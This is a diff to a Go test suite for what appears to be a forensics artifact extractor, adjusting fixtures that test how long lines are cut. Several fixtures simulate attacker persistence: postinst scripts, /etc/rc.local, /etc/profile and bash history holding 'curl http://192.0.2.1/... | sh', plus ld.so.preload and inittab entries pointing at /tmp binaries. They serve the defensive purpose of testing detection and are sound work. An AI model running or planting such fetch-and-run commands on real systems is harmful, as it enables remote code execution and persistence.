@@ -9,6 +9,7 @@ import (
 	"icecore/forensics/artifact"
 	"icecore/forensics/artifact/all"
 	"icecore/forensics/artifact/artifacttest"
+	"icecore/forensics/filesystem"
 )
 
 // Text is cut at characters, wherever an extractor cuts it: of Chinese names,
@@ -39,9 +40,8 @@ func TestCutAtCharacters(t *testing.T) {
 		{Path: "/etc/modules", Text: "~" + long(12000) + "\n"},
 		{Path: "/etc/hosts", Text: "192.0.2.1 ~" + long(12000) + "\n"},
 		{Path: "/etc/systemd/system/a.service", Text: "[Service]\nExecStart=/bin/echo ~" + long(12000) + "\n"},
-		{Path: "/var/lib/dpkg/status", Text: "Package: a\nStatus: install ok installed\nVersion: 1\nMaintainer: ~" + long(1000) + "\n\n"},
-		{Path: "/var/lib/dpkg/info/a.postinst", Text: "#!/bin/sh\nset -e\nexit 0\n/tmp/~" + long(1000) + "\n"},
-		{Path: "/var/lib/dpkg/info/a.postinst", Text: "#!/bin/sh\ncurl http://192.0.2.1/~" + long(1000) + " | sh\n"},
+		{Path: "/var/lib/dpkg/info/a.postinst", State: filesystem.Deleted, Text: "#!/bin/sh\nset -e\nexit 0\n/tmp/~" + long(1000) + "\n"},
+		{Path: "/var/lib/dpkg/info/a.postinst", State: filesystem.Deleted, Text: "#!/bin/sh\ncurl http://192.0.2.1/~" + long(1000) + " | sh\n"},
 		{Path: "/var/log/apt/history.log", Text: "Start-Date: 2026-11-20  07:50:00\nCommandline: apt install ~" + long(12000) + "\nEnd-Date: 2026-11-20  07:50:01\n\n"},
 		{Path: "/etc/rc.local", Mode: 0o100755, Text: "#!/bin/sh\ncurl http://192.0.2.1/~" + long(1000) + " | sh\n", OSID: "debian"},
 		{Path: "/etc/profile", Text: "curl http://192.0.2.1/~" + long(2000) + " | sh\n"},
@@ -99,7 +99,6 @@ func TestLongLines(t *testing.T) {
 		"/etc/ld.so.preload":            "#" + long + "\n/tmp/a.so\n",
 		"/etc/inittab":                  "#" + long + "\na:2:respawn:/tmp/a\n",
 		"/etc/systemd/system/a.service": "#" + long + "\n[Service]\nExecStart=/tmp/a\n",
-		"/var/lib/dpkg/info/a.list":     long + "\n/tmp/a\n",
 		"/root/.bash_history":           "echo " + long + "\ncurl http://192.0.2.1/a | sh\n",
 		"/etc/dpkg/dpkg.cfg":            "#" + long + "\npost-invoke=/tmp/a\n",
 	} {
